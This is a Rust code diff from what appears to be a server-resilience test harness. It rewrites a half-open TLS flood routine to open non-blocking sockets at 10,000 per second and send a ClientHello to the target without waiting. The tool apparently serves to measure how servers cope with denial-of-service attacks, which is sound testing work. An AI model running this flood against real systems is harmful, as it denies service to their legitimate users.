@@ -2,8 +2,8 @@
 
 use std::any::Any;
 use std::collections::VecDeque;
-use std::io::{ErrorKind, Write};
-use std::net::{SocketAddr, TcpStream, UdpSocket};
+use std::io::ErrorKind;
+use std::net::{SocketAddr, UdpSocket};
 use std::sync::atomic::{AtomicU64, Ordering};
 use std::thread;
 use std::time::{Duration, Instant};
@@ -15,6 +15,7 @@ use petrel_command::credentials;
 use petrel_command::failure::Failure;
 use petrel_command::methods;
 use petrel_hostile::{Connection, Neighbour, Shape, control, frames, spray};
+use rustix::net::{AddressFamily, SendFlags, SocketFlags, SocketType, connect, send, socket_with};
 
 use super::active::ActiveAttack;
 use super::honest;
@@ -38,10 +39,9 @@ const ANSWER_TIMEOUT: Duration = Duration::from_secs(2);
 const READERS: u32 = 4;
 const READ_PIECES: u32 = 8;
 
-/// Connections of a second that begin a handshake, those that stay open, and the patience for one.
+/// Connections of a second that begin a handshake, and those that stay open.
 const HALF_OPEN_PER_S: f64 = 10_000.0;
 const HALF_OPEN_HELD: usize = 1_000;
-const HALF_OPEN_TIMEOUT: Duration = Duration::from_millis(20);
 
 /// More connections than a server accepts.
 const CONNECTIONS: u16 = 4_200;
@@ -303,13 +303,16 @@ fn half_open_tls(target: Target<'_>) -> Result<ActiveAttack, Failure> {
             thread::sleep(Duration::from_micros(100));
             return;
         }
-        // A full queue of connections holds the attacker up, and not the honest clients.
-        if let Ok(mut stream) = TcpStream::connect_timeout(&address, HALF_OPEN_TIMEOUT)
-            && stream.write_all(&hello).is_ok()
-        {
-            count.fetch_add(1, Ordering::Relaxed);
-            held.push_back(stream);
-        }
+        // The attacker waits for nothing: a connection that the system does not take at once counts as well.
+        count.fetch_add(1, Ordering::Relaxed);
+        let flags = SocketFlags::NONBLOCK | SocketFlags::CLOEXEC;
+        let Ok(socket) = socket_with(AddressFamily::INET, SocketType::STREAM, flags, None) else {
+            held.clear();
+            return;
+        };
+        let _ = connect(&socket, &address);
+        let _ = send(&socket, &hello, SendFlags::NOSIGNAL);
+        held.push_back(socket);
         if held.len() > HALF_OPEN_HELD {
             held.pop_front();
         }
